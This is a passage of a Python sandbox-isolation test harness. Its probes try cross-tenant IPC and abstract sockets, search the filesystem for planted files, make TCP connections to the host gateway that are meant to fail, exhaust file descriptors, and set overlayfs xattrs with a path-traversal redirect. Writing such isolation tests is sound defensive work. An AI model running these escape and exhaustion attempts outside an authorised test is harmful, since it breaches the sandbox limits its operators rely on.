                 "plant msg": call(libc.msgget, key, IPC_CREAT | 0o666),
                 "plant sem": call(libc.semget, key, 1, IPC_CREAT | 0o666)}
    return {"steps": steps, "data": {"shm": shm, "msg": msg}}


def p_abstract_sockets(a):
    steps = {}
    for name in a["names"]:
        def connect(n=name):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(3)
            try:
                s.connect("\0" + n)
            finally:
                s.close()
        steps[f"connect @{name}"] = attempt(connect)
    with open("/proc/net/unix") as f:
        listed = [ln.split()[-1] for ln in f.read().splitlines()[1:] if len(ln.split()) > 7]
    return {"steps": steps, "data": {"listed": listed}}


def p_find_files(a):
    """Search the whole filesystem for names a neighbour or the host planted."""
    names = set(a["names"])
    hits = []
    for dirpath, dirnames, filenames in os.walk("/"):
        if dirpath in ("/proc", "/sys"):
            dirnames[:] = []
            continue
        for n in filenames + dirnames:
            if n in names:
                hits.append(os.path.join(dirpath, n))
    steps = {f"find {n}": ("ok" if any(h.endswith("/" + n) for h in hits) else "ENOENT") for n in sorted(names)}
    return {"steps": steps, "data": {"hits": hits}}


def default_gateway() -> str | None:
    with open("/proc/net/route") as f:
        for line in f.read().splitlines()[1:]:
            fields = line.split()
            if fields[1] == "00000000" and int(fields[3], 16) & 2:
                return socket.inet_ntoa(struct.pack("<I", int(fields[2], 16)))
    return None


def p_connect(a):
    """TCP connections that must fail: {"targets": [[host, port], ...], "gateway_ports": [...]}
    (the latter tried on the sandbox's default gateway, the host end of its network slot)."""
    steps = {}
    gateway = default_gateway()
    targets = list(a["targets"])
    if gateway:
        targets += [[gateway, port] for port in a.get("gateway_ports", [])]

    def one(target):
        host, port = target
        fam = socket.AF_INET6 if ":" in host else socket.AF_INET

        def go():
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.settimeout(3)
            try:
                s.connect((host, port))
            finally:
                s.close()
        r = attempt(go)
        return f"connect {host}:{port}", "timeout" if r == "timed out" else r

    # All at once: a dropped SYN costs the whole 3 s timeout, and the host has an address per
    # network slot.
    from concurrent.futures import ThreadPoolExecutor
    with ThreadPoolExecutor(max_workers=64) as pool:
        steps.update(pool.map(one, targets))
    return {"steps": steps, "data": {"gateway": gateway}}


def p_fd_exhaustion(a):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    steps = {"raise the hard RLIMIT_NOFILE above its limit": attempt(
        lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (hard * 2, hard * 2)))}
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    fds, err = [], "none"
    try:
        while len(fds) < 2_000_000:
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as e:
        err = ename(e.errno)
    n = len(fds)
    for fd in fds:
        os.close(fd)
    steps[f"open more than the hard limit ({hard})"] = "ok" if n > hard else err
    return {"steps": steps, "data": {"soft": soft, "hard": hard, "opened": n, "error": err}}


def p_overlay_xattr(a):
    path = "/tmp/xattr-probe"
    open(path, "w").close()
    steps = {}
    for name, value in (("trusted.overlay.redirect", b"/../../../../"), ("trusted.overlay.opaque", b"y"),
                        ("trusted.overlay.metacopy", b"")):
        steps[f"setxattr {name}"] = attempt(lambda n=name, v=value: os.setxattr(path, n, v))
    return {"steps": steps, "data": {}}


PROBES = {name[2:]: fn for name, fn in list(globals().items()) if name.startswith("p_")}


def main() -> None:
    name = sys.argv[1]
    args = json.loads(bytes.fromhex(sys.argv[2])) if len(sys.argv) > 2 else {}
    result = PROBES[name](args)
    result["who"] = {"uid": os.getuid(), "euid": os.geteuid()}
    sys.stdout.write(json.dumps(result))


if __name__ == "__main__":
    main()
